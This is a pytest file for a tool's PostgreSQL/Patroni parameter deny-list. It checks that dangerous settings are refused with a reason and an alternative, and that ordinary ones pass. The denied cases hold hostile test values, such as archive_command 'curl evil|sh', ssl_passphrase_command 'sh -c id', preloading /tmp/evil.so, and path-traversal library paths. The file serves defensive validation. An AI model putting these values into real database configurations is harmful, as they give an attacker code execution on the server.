"""patroni.parameters deny-list (issue 27, builder/model/gucpolicy.py): parameters the product
owns or that open a way in are refused at their YAML path with why and what to use instead."""

from __future__ import annotations

import pytest

from builder.core.errors import ConfigError
from builder.model import gucpolicy, loading


def _problems(params: dict[str, object]) -> list[str]:
    try:
        loading.from_data({"patroni": {"parameters": params}})
    except ConfigError as err:
        return err.problems
    return []


@pytest.mark.parametrize(("name", "value"), [
    ("hba_file", "/tmp/pg_hba.conf"), ("ident_file", "/tmp/i"), ("include", "/tmp/x.conf"),
    ("include_dir", "/tmp"), ("include_if_exists", "x"), ("archive_command", "curl evil|sh"),
    ("restore_command", "cp %f %p"), ("archive_library", "basic_archive"),
    ("shared_preload_libraries", "/tmp/evil.so"),
    ("shared_preload_libraries", "pg_stat_statements, /tmp/evil.so"),
    ("session_preload_libraries", "$libdir/../../../tmp/evil"),
    ("local_preload_libraries", "../evil"), ("dynamic_library_path", "/tmp"),
    ("password_encryption", "md5"), ("password_encryption", True), ("ssl", "off"),
    ("ssl_ca_file", "/tmp/ca"), ("ssl_passphrase_command", "sh -c id"), ("HBA_FILE", "/x"),
    ("Password_Encryption", "md5"), ("config_file", "/tmp/x"), ("data_directory", "/tmp"),
    ("unix_socket_permissions", "0777"), ("port", 22), ("krb_server_keyfile", "/etc/k"),
])
def test_denied_parameter_is_refused_with_why_and_instead(name: str, value: object) -> None:
    probs = _problems({name: value, "max_connections": 200})
    assert len(probs) == 1, probs
    assert probs[0].startswith(f"patroni.parameters.{name}")
    assert "may not be set here: " in probs[0] and "; use instead: " in probs[0]
    assert "\n" not in probs[0]


@pytest.mark.parametrize(("name", "value"), [
    ("shared_preload_libraries", "pg_stat_statements,auto_explain"),
    ("shared_preload_libraries", "$libdir/pg_stat_statements"),
    ("shared_preload_libraries", "/usr/pgsql-16/lib/pg_stat_statements.so"),
    ("session_preload_libraries", ""), ("password_encryption", "scram-sha-256"),
    ("max_connections", 300), ("work_mem", "64MB"), ("archive_mode", "off"),
    ("wal_keep_size", "1GB"), ("pg_stat_statements.max", 10000),
])
def test_ordinary_parameters_are_accepted(name: str, value: object) -> None:
    assert _problems({name: value}) == []


def test_the_table_is_data_a_capability_can_take_a_parameter_over() -> None:
    assert gucpolicy.denied("archive_command", "x") is not None
    assert gucpolicy.denied("archive_command", "x", owned=["archive_command"]) is None
    assert all(e.why and e.instead for e in gucpolicy.DENIED)
